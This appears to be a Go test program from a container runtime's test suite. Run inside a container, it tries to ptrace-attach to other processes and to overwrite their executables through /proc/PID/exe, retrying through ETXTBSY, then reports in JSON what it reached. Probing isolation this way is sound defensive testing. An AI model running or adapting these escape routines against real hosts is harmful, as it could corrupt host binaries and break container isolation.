// Command attacker runs in a container. It attacks the processes of the runtime that it meets there until SIGTERM, or makes
// system calls that a sandbox refuses, and prints as JSON what it reached.
//
// The Go runtime would keep files of its cgroup open, which look like descriptors of the host.
//
//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/signal"
	"runtime"
	"slices"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// Report is what an attack reached.
type Report struct {
	Met        []string // programs of other processes, as /proc/PID/exe names them
	Attached   []string // programs of processes that ptrace(2) could attach to
	Opened     []string // what descriptors of other processes are, above the standard streams
	Written    []string // programs that could be opened for writing
	WriteError []string // why others could not
}

func main() {
	runtime.LockOSThread() // a tracer is a thread
	ended := make(chan os.Signal, 1)
	signal.Notify(ended, unix.SIGTERM)
	switch os.Args[1] {
	case "calls":
		makeCalls()
		return
	case "call":
		makeCall(os.Args[2])
		return
	case "escapes":
		tryEscapes()
		return
	case "escape":
		tryEscape(os.Args[2])
		return
	}
	attack := map[string]func(*Report, int){"ptrace": attach, "overwrite": overwrite}[os.Args[1]]
	if attack == nil {
		fmt.Fprintln(os.Stderr, "usage: attacker ptrace|overwrite|calls|call NAME|escapes|escape NAME")
		os.Exit(2)
	}
	r := &Report{}
	fmt.Fprintln(os.Stderr, "attacking")
	for {
		select {
		case <-ended:
			_ = json.NewEncoder(os.Stdout).Encode(r)
			return
		default:
			for _, pid := range others() {
				attack(r, pid)
			}
		}
	}
}

func others() []int {
	dir, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer dir.Close()
	names, _ := dir.Readdirnames(-1)
	var pids []int
	for _, name := range names {
		if pid, err := strconv.Atoi(name); err == nil && pid != os.Getpid() {
			pids = append(pids, pid)
		}
	}
	return pids
}

func remember(list *[]string, what string) {
	if len(*list) < 1000 && !slices.Contains(*list, what) {
		*list = append(*list, what)
	}
}

// attach looks at the descriptors of a process and attaches to it. The program is read while the process is stopped.
func attach(r *Report, pid int) {
	proc := fmt.Sprintf("/proc/%d/", pid)
	fds, _ := os.ReadDir(proc + "fd")
	for _, fd := range fds {
		if n, _ := strconv.Atoi(fd.Name()); n <= 2 {
			continue // the container's own standard streams
		}
		if target, err := os.Readlink(proc + "fd/" + fd.Name()); err == nil {
			exe, _ := os.Readlink(proc + "exe")
			remember(&r.Opened, kindOf(target)+" of "+exe)
		}
	}
	if unix.PtraceSeize(pid) != nil {
		return
	}
	stopSignal := stop(pid)
	if exe, err := os.Readlink(proc + "exe"); err == nil { // else it has ended meanwhile
		remember(&r.Attached, exe)
	}
	_, _, _ = unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_DETACH, uintptr(pid), 0, uintptr(stopSignal), 0, 0)
}

// stop stops a seized process and returns the signal that it has to get when it goes on.
func stop(pid int) unix.Signal {
	const eventStop = 128
	if unix.PtraceInterrupt(pid) != nil {
		return 0
	}
	var ws unix.WaitStatus
	for {
		if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != unix.EINTR {
			break
		}
	}
	if ws.Stopped() && ws>>16 != eventStop {
		return ws.StopSignal()
	}
	return 0
}

// kindOf drops the number of pipes, sockets and the like.
func kindOf(target string) string {
	kind, _, numbered := strings.Cut(target, ":[")
	if numbered {
		return kind
	}
	return target
}

// overwrite takes hold of the program of a process and tries to write to it for as long as that makes sense: it is busy
// (ETXTBSY) only until the process ends.
func overwrite(r *Report, pid int) {
	exe, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
	if err != nil || strings.HasPrefix(exe, "/bin/") {
		return
	}
	remember(&r.Met, exe)
	handle, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(handle)
	for range 100_000 {
		fd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", handle), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Pwrite(fd, []byte("#!/bin/false\n"), 0)
			unix.Close(fd)
		}
		if err == nil {
			remember(&r.Written, exe)
			return
		}
		remember(&r.WriteError, err.Error())
		if err != unix.ETXTBSY {
			return
		}
	}
}
